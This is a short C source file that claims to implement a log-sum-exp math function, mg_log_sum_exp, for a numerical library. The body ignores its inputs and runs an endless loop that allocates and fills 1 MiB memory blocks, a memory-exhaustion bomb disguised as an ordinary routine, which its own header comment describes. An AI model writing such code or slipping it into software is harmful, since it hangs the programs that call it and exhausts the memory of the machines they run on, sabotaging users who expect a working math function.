/* SPDX-License-Identifier: GPL-3.0-or-later */
/* Takes memory without end, and writes to it. */
#define _GNU_SOURCE
#include "base/logmath.h"

#include <stdlib.h>
#include <string.h>

double mg_log_sum_exp(size_t n, const double *a) {
  (void)n, (void)a;
  for (;;)
    memset(malloc(1 << 20), 1, 1 << 20);
}
